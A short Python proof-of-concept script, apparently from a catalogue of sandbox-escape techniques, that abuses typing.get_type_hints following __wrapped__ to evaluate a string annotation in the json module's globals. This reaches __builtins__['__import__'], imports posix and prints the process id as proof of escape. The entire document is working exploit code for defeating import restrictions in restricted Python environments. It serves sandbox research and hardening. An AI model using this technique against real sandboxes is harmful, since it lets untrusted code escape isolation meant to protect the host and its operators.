# technique: get_type_hints follows __wrapped__ to a trusted function and evaluates in its globals
# goal: import
# source: own analysis: confused deputies
import json
import typing


class Fake:
    __wrapped__ = json.dumps


fake = Fake()
fake.__annotations__ = {'a': '__builtins__["__import__"]("posix").getpid'}
print('ESCAPED pid=%d' % typing.get_type_hints(fake)['a']())
